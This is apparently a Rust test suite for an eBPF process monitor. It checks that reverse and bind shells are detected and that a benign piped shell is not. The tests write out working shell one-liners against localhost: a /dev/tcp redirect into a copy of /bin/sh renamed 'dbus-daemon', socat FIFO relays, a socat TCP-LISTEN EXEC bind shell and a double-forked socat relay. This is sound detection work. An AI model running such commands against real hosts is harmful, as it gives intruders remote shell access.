//! Reverse and bind shells end to end, as root, judged by the test's own processes: a shell is
//! known by what its file is (a renamed copy of the system shell), a shell whose stdio a
//! connected relay holds (a FIFO pipeline through socat) and a shell started by a process that
//! accepted a connection (socat TCP-LISTEN EXEC) are reverse shells; a shell fed by a pipe from
//! a process with no connection is not.
use std::{
    io::Write,
    net::{TcpListener, TcpStream},
    process::{Command, Stdio},
    time::Duration,
};

use procwatch_tests::{
    FifoRelay, Monitor, Pidfd, TempDir, accept_one, has_rule, require_root, scratch_base,
};

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn a_renamed_copy_of_the_shell_on_a_socket_is_a_reverse_shell() {
    require_root!();
    let m = Monitor::start("", &[]);
    let dir = TempDir::new_in(&scratch_base(), "renamed-shell");
    let real = std::fs::canonicalize("/bin/sh").expect("/bin/sh");
    let copy = dir.copy_exe(&real, "dbus-daemon");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let peer = accept_one(listener);
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port}; exec {} -i <&3 >&3 2>&3",
        copy.display()
    );
    let mut child = Command::new("bash")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .spawn()
        .expect("bash");
    let a = m.expect_rule(child.id(), "reverse_shell");
    assert!(
        a["exe"]
            .as_str()
            .is_some_and(|e| e.ends_with("/dbus-daemon")),
        "{a:#}"
    );
    assert!(
        a["reasons"].to_string().contains("copy of a shell"),
        "{a:#}"
    );
    if let Ok(Some(mut s)) = peer.join() {
        let _ = s.write_all(b"exit\n");
    }
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn a_shell_relayed_through_a_fifo_or_served_by_a_listener_is_a_reverse_shell() {
    require_root!();
    if !have("socat") {
        eprintln!("SKIP: socat not installed (cargo xtask setup installs it)");
        return;
    }
    let m = Monitor::start("", &[]);
    let dir = TempDir::new_in(&scratch_base(), "relay");
    let fifo = dir.0.join("f");

    // Benign first: a shell fed commands through a pipe by a process with no connection.
    let mut quiet = Command::new("sh")
        .args(["-c", "echo true | /bin/sh -s"])
        .spawn()
        .expect("sh");
    let quiet_pid = quiet.id();
    let _ = quiet.wait();

    // 1. `sh -i < fifo | relay > fifo`: the relay is a sibling holding the connection.
    let relayed = FifoRelay::start(&fifo, |port| format!("socat - TCP:127.0.0.1:{port}"));
    let outer_pid = relayed.pid();
    let a = m
        .wait_alert(Duration::from_secs(15), |a| {
            a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no relayed reverse shell; alerts: {:#?}", m.alerts()));
    assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
    relayed.end();

    // 2. Bind shell: socat accepts, then runs the shell on the connection.
    // A server port below the ephemeral range, as a real one would be.
    let port = (0..200)
        .map(|i| 20_000 + ((std::process::id() as u16).wrapping_add(i * 7) % 9_000))
        .find(|&p| TcpListener::bind(("127.0.0.1", p)).is_ok())
        .expect("a free port");
    let mut server = Command::new("socat")
        .args([
            &format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr"),
            "EXEC:/bin/sh -i,stderr",
        ])
        .stdin(Stdio::null())
        .spawn()
        .expect("socat");
    let server_pid = server.id();
    let mut conn = None;
    for _ in 0..100 {
        if let Ok(s) = TcpStream::connect(("127.0.0.1", port)) {
            conn = Some(s);
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(conn.is_some(), "socat never listened on {port}");
    let a = m
        .wait_alert(Duration::from_secs(15), |a| {
            a["ppid"] == server_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no bind shell alert; alerts: {:#?}", m.alerts()));
    assert!(a["reasons"].to_string().contains("bind shell"), "{a:#}");
    drop(conn);
    let _ = server.kill();
    let _ = server.wait();

    // The benign shell ran before both positive controls: had it alerted, it would be in.
    let noisy: Vec<_> = m
        .alerts()
        .into_iter()
        .filter(|a| a["ppid"] == quiet_pid && has_rule(a, "reverse_shell"))
        .collect();
    assert!(
        noisy.is_empty(),
        "a pipe from a process with no connection alerted: {noisy:#?}"
    );
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn a_relay_that_is_no_relative_or_connects_late_is_found_at_its_connect() {
    require_root!();
    if !have("socat") {
        eprintln!("SKIP: socat not installed (cargo xtask setup installs it)");
        return;
    }
    let m = Monitor::start("", &[]);
    let dir = TempDir::new_in(&scratch_base(), "late-relay");

    // 1. The shell alone on two FIFOs; long after its exec (past every look at its
    // relatives), a process of another tree opens them and connects.
    let (fin, fout) = (dir.0.join("in"), dir.0.join("out"));
    for f in [&fin, &fout] {
        let ok = Command::new("mkfifo").arg(f).status().expect("mkfifo");
        assert!(ok.success());
    }
    // Started in the background of a shell that exits at once: its parent is not this test
    // process (whose own connections, made by tests running beside it, would make it the
    // relay).
    let script = format!(
        "/bin/sh -i 0<>{} 1<>{} 2>&1 & echo $!",
        fin.display(),
        fout.display()
    );
    let out = Command::new("sh")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .output()
        .expect("sh");
    let shell_pid: u32 = String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .expect("shell pid");
    // Held while it is known to be the shell this test started (it waits on its FIFOs).
    let shell_fd = Pidfd::open(shell_pid);
    // The shell's exec, and the look 500 ms later, are over before the relay exists.
    m.sync_events();
    std::thread::sleep(Duration::from_millis(1500));
    m.sync_events();
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let peer = accept_one(listener);
    // Double fork: socat's parent is gone before it connects, so it is no relative.
    let relay = format!(
        "socat 'PIPE:{}!!PIPE:{}' TCP:127.0.0.1:{port} </dev/null >/dev/null 2>&1 & echo $!",
        fout.display(),
        fin.display()
    );
    let out = Command::new("sh")
        .args(["-c", &relay])
        .output()
        .expect("relay");
    let relay_pid: u32 = String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .expect("relay pid");
    // socat is blocked on its connect or relaying now: the pid is still ours to hold.
    let relay_fd = Pidfd::open(relay_pid);
    let a = m
        .wait_alert(Duration::from_secs(30), |a| {
            a["pid"] == shell_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no alert for the unrelated relay: {:#?}", m.alerts()));
    assert!(
        a["reasons"]
            .to_string()
            .contains(&format!("pid {relay_pid} ")),
        "{a:#}"
    );
    let held = peer.join().ok().flatten();
    drop(held);
    // Init reaps the orphaned relay and shell: their pids may already name other processes.
    for fd in [relay_fd, shell_fd].into_iter().flatten() {
        fd.signal(libc::SIGKILL);
    }

    // 2. A relative that connects late: the pipeline's relay waits 1.5 s, then connects.
    let relayed = FifoRelay::start(&dir.0.join("f"), |port| {
        format!("(sleep 1.5; exec socat - TCP:127.0.0.1:{port})")
    });
    let outer_pid = relayed.pid();
    let a = m
        .wait_alert(Duration::from_secs(30), |a| {
            a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
        })
        .unwrap_or_else(|| panic!("no alert for the late relay: {:#?}", m.alerts()));
    assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
    relayed.end();
}
